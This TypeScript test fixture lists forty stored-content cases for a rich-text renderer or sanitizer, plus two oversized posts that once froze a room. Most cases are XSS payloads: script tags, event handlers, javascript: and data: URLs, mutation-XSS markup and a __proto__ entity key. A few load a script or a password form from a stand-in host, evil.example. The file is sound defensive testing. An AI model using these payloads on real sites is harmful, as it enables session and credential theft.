/**
 * Content as an attacker might store it: forty cases, each of which calls `hacked()` if anything in
 * it runs.
 */

export type HostileCase = { name: string; content: string };

const RUN = 'hacked()';

/** HTML in the place of rich text. */
export const HOSTILE_HTML: readonly HostileCase[] = [
  { name: 'a script', content: `<script>${RUN}</script>` },
  { name: 'an external script', content: '<script src="https://evil.example/x.js"></script>' },
  { name: 'a picture that fails', content: `<img src="x" onerror="${RUN}">` },
  { name: 'an event handler in capitals', content: `<IMG SRC=x OnErRoR=${RUN}>` },
  { name: 'an event handler after a slash', content: `<img/src="x"/onerror=${RUN}>` },
  { name: 'an onload handler in SVG', content: `<svg onload="${RUN}"></svg>` },
  { name: 'a script in SVG', content: `<svg><script>${RUN}</script></svg>` },
  {
    name: 'an animated link in SVG',
    content: `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text>x</text></a></svg>`,
  },
  { name: 'a javascript link', content: `<a href="javascript:${RUN}">Read on</a>` },
  { name: 'a javascript link in mixed case', content: `<a href="JaVaScRiPt:${RUN}">Read on</a>` },
  {
    name: 'a javascript link after white space',
    content: `<a href="  \tjavascript:${RUN}">x</a>`,
  },
  { name: 'a javascript link with a tab inside', content: `<a href="java\tscript:${RUN}">x</a>` },
  {
    name: 'a javascript link in entities',
    content: `<a href="&#106;avascript&colon;${RUN}">x</a>`,
  },
  { name: 'a vbscript link', content: `<a href="vbscript:${RUN}">x</a>` },
  {
    name: 'a link to a page of its own',
    content: `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  },
  { name: 'a frame', content: `<iframe src="javascript:${RUN}"></iframe>` },
  {
    name: 'a frame with its page in srcdoc',
    content: `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  },
  { name: 'an object', content: `<object data="javascript:${RUN}"></object>` },
  { name: 'an embed element', content: `<embed src="javascript:${RUN}">` },
  {
    name: 'a form that asks for a password',
    content:
      '<form action="https://evil.example"><input name="password"><button>Log In</button></form>',
  },
  {
    name: 'a button with an action',
    content: `<button formaction="javascript:${RUN}">Go</button>`,
  },
  { name: 'a base URL', content: '<base href="https://evil.example/">' },
  {
    name: 'a redirect',
    content: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  },
  { name: 'a style sheet', content: '<style>body { display: none }</style>' },
  {
    name: 'a style that covers the page',
    content: '<div style="position:fixed;inset:0">Log in again</div>',
  },
  {
    name: 'an open details element with a handler',
    content: `<details open ontoggle="${RUN}">x</details>`,
  },
  { name: 'an autofocus field with a handler', content: `<input autofocus onfocus="${RUN}">` },
  {
    name: 'markup that mutates when parsed twice',
    content: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  },
  {
    name: 'a noscript that ends inside an attribute',
    content: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  },
  {
    name: 'names that shadow the document',
    content:
      '<a id="body" name="cookie" href="https://evil.example">x</a><form name="forms"></form>',
  },
];

const block = (text: string, more: object = {}) => ({
  key: 'a',
  text,
  type: 'unstyled',
  depth: 0,
  inlineStyleRanges: [],
  entityRanges: [],
  data: {},
  ...more,
});

const linked = (data: object, type = 'LINK') =>
  JSON.stringify({
    blocks: [block('Read on', { entityRanges: [{ offset: 0, length: 7, key: 0 }] })],
    entityMap: { 0: { type, mutability: 'MUTABLE', data } },
  });

/** Rich text, as stored in `contentJSON`. */
export const HOSTILE_RICH_TEXT: readonly HostileCase[] = [
  { name: 'a javascript link', content: linked({ url: `javascript:${RUN}` }) },
  { name: 'a javascript link in mixed case', content: linked({ url: `JAVAscript:${RUN}` }) },
  {
    name: 'a javascript link with a control character',
    content: linked({ href: `\u0001java\nscript:${RUN}` }),
  },
  {
    name: 'a link to a page of its own',
    content: linked({ url: `data:text/html,<script>${RUN}</script>` }),
  },
  { name: 'a picture with a handler', content: linked({ src: 'x', onerror: RUN }, 'IMAGE') },
  {
    name: 'an embedded page',
    content: linked({ src: `javascript:${RUN}`, html: `<script>${RUN}</script>` }, 'EMBEDDED_LINK'),
  },
  {
    name: 'text that looks like markup',
    content: JSON.stringify({ blocks: [block(`<img src=x onerror="${RUN}">`)], entityMap: {} }),
  },
  {
    name: 'a type and a style that contain tags',
    content: JSON.stringify({
      blocks: [
        block('Read on', {
          type: 'script',
          inlineStyleRanges: [{ offset: 0, length: 7, style: 'SCRIPT' }],
        }),
      ],
      entityMap: {},
    }),
  },
  {
    name: 'an entity map with the key __proto__',
    content: `{"blocks":[{"text":"Read on","entityRanges":[{"offset":0,"length":7,"key":"__proto__"}]}],"entityMap":{"__proto__":{"type":"LINK","data":{"url":"javascript:${RUN}"}}}}`,
  },
  { name: 'markup instead of JSON', content: `<svg onload="${RUN}"><script>${RUN}</script>` },
];

type Range = { offset: number; length: number; style: string };

/**
 * Returns a post of 19,999 characters: one word and as many of the ranges as fit.
 * @param range the n-th of them
 */
function fullPost(word: string, range: (n: number) => Range): string {
  const ranges: Range[] = [];
  const document = () =>
    JSON.stringify({ blocks: [block(word, { inlineStyleRanges: ranges })], entityMap: {} });
  while (document().length < 19_930) ranges.push(range(ranges.length));
  return document().replace(word, word.padEnd(word.length + 19_999 - document().length, '.'));
}

const STYLES = ['BOLD', 'ITALIC', 'UNDERLINE', 'STRIKETHROUGH', 'CODE'];

/**
 * Two posts that the rules accept and that once froze a room for every reader. With a tag for each
 * range around each segment they produced 170,000 elements.
 */
export const FREEZING_POSTS: readonly HostileCase[] = [
  {
    name: 'nested ranges',
    content: fullPost('Nested '.repeat(130), (n) => ({
      offset: n,
      length: 900 - 2 * n,
      style: STYLES[n % 5] ?? '',
    })),
  },
  {
    name: 'four styles on all letters and a fifth style on every second letter',
    content: fullPost('Striped'.repeat(130), (n) =>
      n < 4
        ? { offset: 0, length: 910, style: STYLES[n + 1] ?? '' }
        : { offset: 2 * n, length: 1, style: 'BOLD' },
    ),
  },
];
